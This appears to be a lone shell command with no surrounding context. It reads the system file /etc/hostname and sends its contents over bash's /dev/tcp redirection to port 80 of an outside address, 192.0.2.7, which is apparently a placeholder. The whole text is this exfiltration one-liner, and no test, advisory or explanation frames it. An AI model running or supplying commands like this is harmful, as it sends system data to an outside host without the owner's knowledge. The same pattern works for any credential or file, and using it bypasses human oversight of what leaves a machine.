cat /etc/hostname > /dev/tcp/192.0.2.7/80
